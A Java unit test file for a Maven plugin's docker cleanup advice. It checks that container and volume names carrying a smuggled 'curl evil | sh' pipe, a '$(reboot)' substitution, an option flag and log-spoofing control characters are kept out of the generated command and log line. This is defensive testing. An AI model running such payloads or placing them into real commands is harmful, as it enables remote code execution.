package io.github.dood.maven;

import static org.assertj.core.api.Assertions.assertThat;

import io.github.dood.run.Leftover;
import io.github.dood.run.OwnerState;
import java.util.List;
import org.junit.jupiter.api.Test;

class PruningTest {

    @Test
    void namesWhatCanBeRemovedByHand() {
        assertThat(Pruning.advice(List.of(
                        leftover(Leftover.Kind.CONTAINER, "dood-1"),
                        leftover(Leftover.Kind.VOLUME, "dood-2"),
                        leftover(Leftover.Kind.CONTAINER, "dood-3"))))
                .isEqualTo("if you are sure that no run elsewhere uses what cannot be seen from here:"
                        + " docker rm --force --volumes dood-1 dood-3 && docker volume rm dood-2");
    }

    @Test
    void putsNoNameIntoACommandThatMeansMoreToAShell() {
        assertThat(Pruning.advice(List.of(
                        leftover(Leftover.Kind.CONTAINER, "x; curl evil | sh"),
                        leftover(Leftover.Kind.VOLUME, "$(reboot)"),
                        leftover(Leftover.Kind.VOLUME, "--all"),
                        leftover(Leftover.Kind.VOLUME, "a\nb"),
                        leftover(Leftover.Kind.VOLUME, ""),
                        leftover(Leftover.Kind.VOLUME, "dood-1"))))
                .isEqualTo(
                        "if you are sure that no run elsewhere uses what cannot be seen from here:"
                                + " docker volume rm dood-1; 5 have names that no engine gives: look what answers in its place");
    }

    @Test
    void showsANameInOneLine() {
        assertThat(leftover(Leftover.Kind.VOLUME, "a\n[INFO] BUILD SUCCESS\u001b[2K"))
                .hasToString("volume a\\n[INFO] BUILD SUCCESS\\u001b[2K of job 42 of project group/project");
        assertThat(leftover(Leftover.Kind.VOLUME, "a ".repeat(10_000)).toString())
                .hasSizeLessThan(600);
    }

    private static Leftover leftover(Leftover.Kind kind, String name) {
        return new Leftover(kind, name, "42", "group/project", "today", "1@dead", OwnerState.UNKNOWN, false);
    }
}
